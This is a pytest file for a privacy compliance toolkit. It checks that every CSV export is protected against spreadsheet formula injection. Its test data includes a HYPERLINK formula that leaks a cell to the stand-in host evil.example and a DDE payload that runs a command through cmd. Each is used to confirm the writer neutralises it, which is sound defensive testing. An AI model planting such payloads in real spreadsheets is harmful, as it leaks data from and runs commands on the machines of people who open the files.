"""Every CSV the toolkit writes goes through one writer: no cell a spreadsheet would run as a
formula (OWASP, CSV injection), and a CSV answer names its charset once."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from decimal import Decimal

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from privacy.bundle import verify_bundle
from privacy.csvfile import csv_bytes, csv_text
from privacy.settings import Settings
from tests.conftest import ORGANISATION, activity, app_with_demo, client_of

Client = AsyncTestClient[Litestar]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# What a spreadsheet takes for the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_each_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    text = csv_text(
        [
            ["=1+1", "+31 20 123", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b", ""],
            [-5, -2.5, Decimal("-1.50"), 7, True, None, ["=x", "y"], "-5"],
        ]
    )
    first, second = cells(text)
    assert first == ["'=1+1", "'+31 20 123", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "plain", "a=b", ""]
    # Numbers are written as numbers: a negative number cannot carry a formula. The same text in
    # a string is prefixed, since nothing tells it apart from `-2+3`.
    assert second == ["-5", "-2.5", "-1.50", "7", "True", "", "'=x; y", "'-5"]
    assert text.endswith("\r\n") and text.count("\r\n") == 2, "RFC 4180 line ends"
    assert csv_bytes([["é", "=1"]]) == "é,'=1\r\n".encode()


@pytest.fixture
async def web(settings: Settings) -> AsyncIterator[Client]:
    async with client_of(await app_with_demo(settings)) as client:
        yield client


async def add_formula_subprocessor(web: Client, admin: dict[str, str]) -> None:
    evil = {
        "key": "evil",
        "name": FORMULA,
        "service": "@SUM(1+1)*cmd|' /C calc'!A0",
        "purpose": "+1 Hosting",
        "data_categories": ["usage"],
        "processing_locations": ["DE"],
        "corporate_location": "DE",
        "transfer_mechanism": "not_needed",
        "active_since": "2024-01-01",
    }
    answer = await web.put("/api/v1/admin/subprocessors/evil", json=evil, headers=admin)
    assert answer.status_code in (200, 201), answer.text


async def test_public_subprocessor_list_neutralises_formulas_and_names_one_charset(
    web: Client, admin: dict[str, str]
) -> None:
    await add_formula_subprocessor(web, admin)
    answer = await web.get("/subprocessors.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["cache-control"] == "public, max-age=300", "the public list stays cacheable"
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    evil = next(row for row in rows if row["key"] == "evil")
    assert evil["name"] == "'" + FORMULA
    assert evil["service"].startswith("'@SUM") and evil["purpose"] == "'+1 Hosting"


async def test_art30_record_neutralises_every_column_and_names_one_charset(
    client: Client, admin: dict[str, str], auditor: dict[str, str]
) -> None:
    await client.put("/api/v1/admin/organisation", json=ORGANISATION, headers=admin)
    created = await client.post(
        "/api/v1/admin/activities", json=activity("x", name=FORMULA, purpose="-1 purpose"), headers=admin
    )
    assert created.status_code == 201, created.text
    answer = await client.get("/api/v1/admin/exports/ropa.csv", headers=auditor)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    header, row, *_annexes = cells(answer.text)  # the activities, then the tables annexed to the record
    entry = dict(zip(header, row, strict=True))
    assert entry["Activity"] == "'" + FORMULA
    assert entry["(b) Purposes of the processing"] == "'-1 purpose"


async def test_bundle_csv_files_are_neutralised_and_the_bundle_still_verifies(
    web: Client, admin: dict[str, str], auditor: dict[str, str]
) -> None:
    await add_formula_subprocessor(web, admin)
    answer = await web.get("/api/v1/admin/exports/audit-bundle", headers=auditor)
    assert answer.status_code == 200, answer.text
    check = verify_bundle(io.BytesIO(answer.content), (await web.get("/.well-known/jwks.json")).json())
    assert check.valid, check.problems
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    history = list(csv.DictReader(io.StringIO(archive.read("subprocessors/history.csv").decode(), newline="")))
    assert "'" + FORMULA in [row["name"] for row in history]
    for name in (n for n in archive.namelist() if n.endswith(".csv")):
        for row in cells(archive.read(name).decode()):
            assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], name
